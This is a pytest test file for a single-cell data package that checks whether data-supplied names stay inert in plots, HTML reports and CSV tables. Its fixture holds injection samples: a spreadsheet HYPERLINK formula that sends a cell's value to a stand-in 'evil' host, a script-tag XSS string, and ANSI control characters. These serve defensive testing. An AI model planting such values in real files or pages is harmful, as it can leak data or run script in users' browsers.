"""Names from the data are text everywhere: in pictures, on the page and in tables."""

from __future__ import annotations

import csv
import re
import warnings

import matplotlib.pyplot as plt
import numpy as np
import pytest
from matplotlib.text import Text
from report_page import read_page
from test_pl_calls import adata as called  # noqa: F401

import dtpscore as dtp
from dtpscore import pl
from dtpscore._text import short, visible

pytestmark = pytest.mark.slow

MATH, SCRIPT = r"$\dose{5}$", "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil/?"&A1,"open")'


@pytest.fixture(scope="module")
def hostile(called):  # noqa: F811
    """Called cells whose groups and samples have names that programs may run."""
    made = called.copy()
    names = {"parental": FORMULA, "treated": MATH, "holiday": SCRIPT}
    made.obs["condition"] = made.obs["condition"].cat.rename_categories(names)
    samples = made.obs["sample"].astype(str)
    kinds = ["$x_{2}", "@s", "a\x1b[31m\n<b>", "_"]
    renamed = {
        name: f"{kinds[n % 4]}|{n}" for n, name in enumerate(sorted(samples.unique()))
    }
    made.obs["sample"] = samples.map(renamed)
    dtp.tl.call(
        made,
        groupby="condition",
        reference=FORMULA,
        sample_key="sample",
        holiday=SCRIPT,
    )
    dtp.tl.enrich(
        made,
        ["hallmark_e2f_targets"],
        groupby="condition",
        reference=FORMULA,
        sample_key="sample",
        n_permutations=20,
    )
    return made


GROUPS = {"groupby": "condition", "reference": FORMULA}
DRAW = {
    "axis_heatmap": GROUPS,
    "axis_scores": {**GROUPS, "sample_key": "sample"},
    "composition": {**GROUPS, "sample_key": "sample"},
    "decision": {},
    "embedding": {"color": "condition"},
    "enrichment": {"group": MATH},
    "reasons": {"group": MATH},
    "reversal": {},
    "running_score": {"term": "hallmark_e2f_targets_UP", "group": MATH},
    "shares": {},
}


@pytest.mark.parametrize("own_axes", [False, True])
@pytest.mark.parametrize("name", sorted(DRAW))
def test_names_are_drawn_as_they_are(hostile, name, own_axes, tmp_path):
    given = {"ax": plt.subplots()[1]} if own_axes else {}
    with warnings.catch_warnings():
        # A control character has no picture, and matplotlib warns of it.
        warnings.simplefilter("error", UserWarning)
        figure = getattr(pl, name)(
            hostile,
            show=False,
            return_fig=True,
            save=tmp_path / "a.png",
            **DRAW[name],
            **given,
        )
    texts = [one for one in figure.findobj(Text) if "$" in one.get_text()]
    assert not any(one.get_parse_math() for one in texts)


def test_the_math_of_a_name_is_seen(hostile):
    ax = pl.shares(hostile, show=False)
    labels = [t.get_text() for t in ax.get_legend().get_texts()]
    assert MATH in labels
    assert SCRIPT in labels


@pytest.fixture(scope="module")
def files(hostile, tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    dtp.report(hostile, folder / "r.html", tables=folder / "tables", title=SCRIPT)
    return folder


def test_names_are_inert_on_the_page(files):
    html = (files / "r.html").read_text(encoding="utf-8")
    page = read_page(html)
    assert html.count("<script>") == 1
    assert SCRIPT in page.words
    assert not re.search("[\x00-\x08\x0b-\x1f]", html)
    assert "\\x1b[31m" in html
    assert "<b>|" not in html


def test_no_table_runs_a_formula(files):
    seen = 0
    for path in (files / "tables").glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        for cell in cells:
            if cell.startswith(("=", "@", "\t", "\r")):
                pytest.fail(f"{path.name}: {cell!r}")
            if cell.startswith(("+", "-")):
                float(cell)
            seen += cell.startswith("'=")
    assert seen > 3


def test_control_and_direction_characters_are_written_out():
    assert visible("a\nb\tc\x1b\u202ed") == r"a\nb\tc\x1b\u202ed"
    assert visible("a\nb", keep="\n") == "a\nb"
    assert visible("µM · größe") == "µM · größe"


def test_long_names_lose_their_middle():
    name = "start" + "x" * 100 + "end"
    text = short(name)
    assert len(text) == 48
    assert text.startswith("start")
    assert text.endswith("end")
    assert short("kept") == "kept"


def test_numbers_in_names_are_no_problem():
    assert short(np.int64(3)) == "3"
